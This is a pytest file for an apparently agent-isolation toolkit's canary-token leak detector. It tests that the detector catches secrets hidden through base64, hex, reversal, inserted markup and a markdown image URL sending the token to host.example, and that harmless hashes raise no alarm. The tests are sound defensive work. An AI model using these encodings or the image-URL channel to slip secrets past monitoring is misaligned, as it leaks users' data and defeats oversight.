"""Public reports of detectors that miss or cry wolf: no rendering passes, nothing harmless alarms."""

from __future__ import annotations

import base64
import json
import textwrap
from collections.abc import Callable
from hashlib import sha256
from urllib.parse import quote

import pytest

from isolation_kit.canary import Mint
from isolation_kit.detect import Pool, scan
from isolation_kit.scenario import Answer, Delegate, Place, TurnPlan
from isolation_kit.trace import Channel, Trace

MINT = Mint(29)
TOKEN = MINT.mint("case", Place("parent.state")).token
HASH = sha256(b"a file").hexdigest()


def pool() -> Pool:
    """A pool that holds the one token."""
    made = Pool(MINT.prefix)
    made.add(TOKEN)
    return made


def wrapped(text: str) -> str:
    """base64 in short lines."""
    return "\n".join(textwrap.wrap(base64.b64encode(f"note: {text}, and more".encode()).decode(), 24))


PASSED_A_SUBSTRING_TEST: dict[str, Callable[[str], str]] = {
    "base64 in lines": wrapped,
    "base64 twice": lambda t: base64.b64encode(base64.b64encode(f"note {t}".encode())).decode(),
    "hex with separators": lambda t: t.encode().hex(":"),
    "reversed": lambda t: t[::-1],
    "markup inside": lambda t: f"{t[:7]}<b>{t[7:13]}</b>{t[13:]}",
    "in an image's URL": lambda t: (
        f"![x](https://host.example/p.png?d={quote(t, safe='').replace(t[4], '%' + t[4].encode().hex())})"
    ),
}


@pytest.mark.parametrize("name", PASSED_A_SUBSTRING_TEST)
def test_what_passed_a_substring_test_is_found(name: str) -> None:
    """hivecommons/hive#6686, msaad00/agent-bom#405 and OWASP/AISVS#208: forms that went out unseen."""
    text = PASSED_A_SUBSTRING_TEST[name](TOKEN)
    assert TOKEN not in text
    assert [hit.token for hit in scan(text.encode(), pool()).hits if hit.token == TOKEN]


HARMLESS = {
    "hashed file names": f"assets/{HASH[:20]}.js and cache/{HASH}.bin",
    "git hashes": f"commit {HASH[:40]}\nindex {HASH[:7]}..{HASH[7:14]} 100644",
    "names of credentials": "AWS_SECRET_ACCESS_KEY, api_key, Authorization: Bearer <token>, password reset",
    "a question about keys": "How do I set my API key so that it is not revealed? 请问如何设置密钥？",
    "a listing of issues": json.dumps([{"id": 405, "title": "rotate the signing secret", "sha": HASH[:40]}]),
    "random words": base64.b32encode(sha256(b"more").digest()).decode().lower(),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_what_is_no_canary_raises_nothing(name: str) -> None:
    """zeroclaw-labs/zeroclaw#4832, DobermanCore/Doberman-Core#56, tinyhumansai/openhuman#1940."""
    assert scan(HARMLESS[name].encode(), pool()).hits == ()


def test_a_look_changes_no_byte_of_what_is_sent(execute: Callable[..., Trace]) -> None:
    """stacklok/codegate#1228: code that looks like secrets reaches the child as it was handed over."""
    from tiny_target import full_case, tiny

    code = f"def load_api_key(sk_live_{HASH[:24]}): return 'ghp_{HASH[:36]}'"
    turn = TurnPlan(0, "hello", (Delegate(0, code, (Answer("ok"),)), Answer("done")))
    trace = execute(tiny(), full_case(turns=(turn,)))
    (sent,) = trace.seen(Channel.CHILD_REQUEST)
    assert json.loads(sent.data)["messages"][0]["content"] == code
